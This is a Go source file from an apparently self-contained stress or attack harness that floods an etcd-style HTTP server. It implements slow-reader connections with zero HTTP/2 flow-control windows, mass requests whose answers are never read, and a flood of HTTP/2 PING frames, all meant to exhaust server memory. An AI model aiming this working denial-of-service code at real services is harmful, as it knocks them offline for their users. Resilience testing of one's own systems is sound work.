package attack

import (
	"bytes"
	"context"
	"fmt"

	"golang.org/x/net/http2"
)

// smallBuffer is the receive buffer of attackers that do not read; the kernel doubles it.
const smallBuffer = 2 << 10

// firsts returns a function for the first bytes of a connection: so many requests, which are
// sent at once. On HTTP/2 the server may send no byte of a body.
func (c *crew) firsts(requests int, r func(n int) *request) func(i int) []byte {
	return func(i int) []byte {
		if c.Protocol != HTTP2 {
			var all []byte
			for n := range requests {
				all = append(all, r(i*requests+n).http1(c.Protocol)...)
			}
			return all
		}
		all, e := preface(noWindow), newEncoder()
		for n := range requests {
			all = append(all, e.request(uint32(2*n+1), r(i*requests+n))...)
		}
		return all
	}
}

// holdAnswers makes so many requests on each of the connections and takes none of the answers, with
// the smallest buffers.
func (c *crew) holdAnswers(ctx context.Context, connections, requests int, r func(n int) *request, ready func()) error {
	return c.hold(ctx, &holding{
		connections: connections, receive: smallBuffer, reads: c.Protocol == HTTP2, streams: requests,
		first: c.firsts(requests, r), again: r,
	}, ready)
}

// streams asks for short answers and takes none of them.
func streams(ctx context.Context, c *crew, ready func()) error {
	const connections, requests = 250, 100
	missing := func(n int) *request { return &request{method: "GET", target: fmt.Sprintf("/v2/keys/missing/%d", n)} }
	return c.holdAnswers(ctx, connections, requests, missing, ready)
}

// Both hold a value of 100 KB. Only known users may read the private one.
const (
	largeKey   = "/v2/keys/siege/large"
	privateKey = "/v2/keys/conftool/private/large"
)

// slowReaders asks for answers of 100 KB and takes none of them. Each request has a parameter
// of its own, so that the server cannot share the answers: one that etcd does not know, or an index
// that etcd does not use.
func slowReaders(ctx context.Context, c *crew, ready func()) error {
	connections, requests := 24, 100
	if c.Protocol != HTTP2 {
		connections, requests = 950, 4
	}
	key := largeKey
	if c.User != "" {
		key = privateKey
	}
	read := func(n int) *request {
		parameter := []string{"x", "waitIndex"}[n%2]
		return &request{method: "GET", target: fmt.Sprintf("%s?%s=%d", key, parameter, n+1), authorization: c.authorization()}
	}
	return c.holdAnswers(ctx, connections, requests, read, ready)
}

// pingConnections is how many connections send PINGs, and pingsOfEach how many each sends: the
// kernel holds some thousand of the answers, and Go's server up to 10,000 more.
const (
	pingConnections = 1000
	pingsOfEach     = 14_000
)

// pings sends many PINGs on each connection and takes no answer.
func pings(ctx context.Context, c *crew, ready func()) error {
	var all bytes.Buffer
	all.Write(preface(noWindow))
	all.Write(newEncoder().request(1, &request{method: "GET", target: smallKey}))
	f := http2.NewFramer(&all, nil)
	for range pingsOfEach {
		_ = f.WritePing(false, [8]byte{}) // to memory
	}
	return c.hold(ctx, &holding{connections: pingConnections, receive: smallBuffer, first: func(int) []byte { return all.Bytes() }}, ready)
}
